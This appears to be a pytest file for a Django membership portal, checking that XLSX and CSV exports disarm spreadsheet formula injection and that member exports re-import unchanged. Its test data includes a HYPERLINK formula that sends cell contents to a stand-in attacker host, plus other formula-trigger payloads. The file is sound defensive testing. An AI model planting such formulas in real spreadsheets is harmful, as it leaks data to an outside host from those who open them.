"""Every XLSX and CSV the portal writes neutralises text a spreadsheet would run as a formula
(OWASP "CSV injection"), and the member import reads the member export back unchanged."""

import csv
import io
import zipfile
from datetime import UTC, date, datetime

import pytest
from django.urls import reverse
from openpyxl import load_workbook

from core.spreadsheets import restore_cell, safe_cell
from enrollment.models import Application
from members.models import Member
from notices import services as notice_services
from reports.exporters import render_xlsx
from reports.national import render_national_zip
from reports.summary import build_summary
from tests.enrollment.factories import ApplicationFactory, IntakeFactory
from tests.factories import MemberFactory, RepresentativeFactory
from tests.notices.factories import NoticeFactory

pytestmark = pytest.mark.django_db

# Values as an attacker would type them into a name, a region or a reply.
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"点此查看")'
PAYLOADS = [FORMULA, "+1+1", "-2+3", "@SUM(1,1)", "\t=1+1", "\r=1+1"]


@pytest.fixture(autouse=True)
def media(settings, tmp_path):
    settings.MEDIA_ROOT = tmp_path


def xlsx_cells(content: bytes) -> list:
    """Every cell of every sheet, with the type openpyxl read it as."""
    book = load_workbook(io.BytesIO(content))
    return [cell for sheet in book.worksheets for row in sheet.iter_rows() for cell in row]


def assert_no_formula(cells, payload: str) -> None:
    formulas = [c.value for c in cells if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for c in cells if isinstance(c.value, str)]
    assert "'" + payload in texts  # written, readable, with the apostrophe that disarms it
    assert payload not in texts


@pytest.mark.parametrize(
    "value",
    ["=1+1", "'=1+1", "''=1+1", "'", "'x", "-", "-5", "'-5", "+86 769", "@a", "\tx", "", None, 5],
)
def test_restore_undoes_safe_for_any_value(value):
    assert restore_cell(safe_cell(value)) == value


@pytest.mark.parametrize("value", ["=1+1", "'=1+1", "+1+1", "-1+A1", "@A1", "\t=1", "\r=1"])
def test_safe_cells_never_start_with_a_formula_trigger(value):
    assert not safe_cell(value).startswith(("=", "+", "-", "@", "\t", "\r"))


def test_staff_roster_neutralises_an_applicants_name(client_for, staff):
    intake = IntakeFactory()
    ApplicationFactory(intake=intake, status=Application.Status.ENROLLED, full_name=FORMULA)
    response = client_for(staff).get(reverse("staff_intake_roster", args=[intake.pk]))
    assert_no_formula(xlsx_cells(response.content), FORMULA)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_member_export_neutralises_and_imports_back_unchanged(client_for, staff, payload):
    MemberFactory(name="东莞市示范模具有限公司", region=payload, industry="'=literal")
    c = client_for(staff)
    content = c.get(reverse("staff_member_export")).content
    assert_no_formula(xlsx_cells(content), payload)
    Member.objects.all().delete()
    upload = io.BytesIO(content)
    upload.name = "export.xlsx"
    preview = c.post(reverse("staff_member_import"), {"file": upload}).context["preview"]
    assert preview.ok, [row.errors for row in preview.rows]
    assert preview.rows[0].values["region"] == payload.strip()
    assert preview.rows[0].values["industry"] == "'=literal"


def test_member_import_template_has_no_formula(client_for, staff):
    content = client_for(staff).get(reverse("staff_member_import_template")).content
    assert [c.value for c in xlsx_cells(content) if c.data_type == "f"] == []


def test_annual_report_xlsx_neutralises_member_fields():
    MemberFactory(joined_on=date(2020, 1, 1), region=FORMULA, industry="@SUM(1,1)")
    cells = xlsx_cells(render_xlsx(build_summary(2021)))
    assert_no_formula(cells, FORMULA)
    assert "'@SUM(1,1)" in [c.value for c in cells]


def test_national_platform_zip_neutralises_member_fields():
    MemberFactory(joined_on=date(2020, 1, 1), region=FORMULA)
    archive = zipfile.ZipFile(io.BytesIO(render_national_zip(2021)))
    cells = [cell for name in archive.namelist() for cell in xlsx_cells(archive.read(name))]
    assert_no_formula(cells, FORMULA)


def test_deliveries_csv_neutralises_replies_and_shows_local_read_times(client_for, staff):
    representative = RepresentativeFactory().user
    notice = NoticeFactory(response="reply", reply_prompt="是否参加？")
    notice_services.notice_release(notice_id=notice.pk, statuses=["draft"])
    delivery = notice.deliveries.get(email=representative.email)
    notice_services.delivery_reply(delivery=delivery, reply="yes", text=FORMULA)
    delivery.refresh_from_db()
    delivery.read_at = datetime(2026, 3, 2, 23, 30, tzinfo=UTC)  # 07:30 next day in Dongguan
    delivery.save()
    response = client_for(staff).get(reverse("staff_notice_export", args=[notice.pk]))
    rows = list(csv.reader(io.StringIO(response.content.decode("utf-8-sig"))))
    row = next(r for r in rows if representative.email in r)
    assert "'" + FORMULA in row
    assert FORMULA not in row
    assert "2026-03-03 07:30" in row
